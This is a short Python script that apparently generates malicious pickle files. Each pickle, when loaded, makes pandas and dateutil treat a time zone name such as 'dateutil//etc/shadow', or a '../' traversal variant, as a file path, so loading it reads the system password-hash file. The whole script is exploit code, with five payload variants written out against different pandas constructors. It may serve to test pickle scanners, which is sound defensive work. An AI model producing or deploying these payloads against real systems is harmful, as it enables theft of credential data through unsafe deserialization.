# A time zone whose name dateutil opens as a file.
from pickle_asm import *


def attack(name, module, function, *arguments):
    save(name + ".pkl", proto(4) + stack_global(module, function) + args(*arguments) + REDUCE + STOP)


DATES = raw(stack_global("pandas.core.indexes.datetimes", "DatetimeIndex"))
attack("type", "pandas.core.dtypes.dtypes", "DatetimeTZDtype", "ns", "dateutil//etc/shadow")
attack("type_up", "pandas.core.dtypes.dtypes", "DatetimeTZDtype", "ns", "dateutil/../../../etc/shadow")
attack("text_of_type", "pandas", "Series", [], None, "datetime64[ns, dateutil//etc/shadow]")
attack("time", "pandas._libs.tslibs.timestamps", "_unpickle_timestamp", 0, None, "dateutil//etc/shadow", 10)
attack("index", "pandas.core.indexes.datetimes", "_new_DatetimeIndex", DATES, {"data": [], "tz": "dateutil//etc/shadow"})
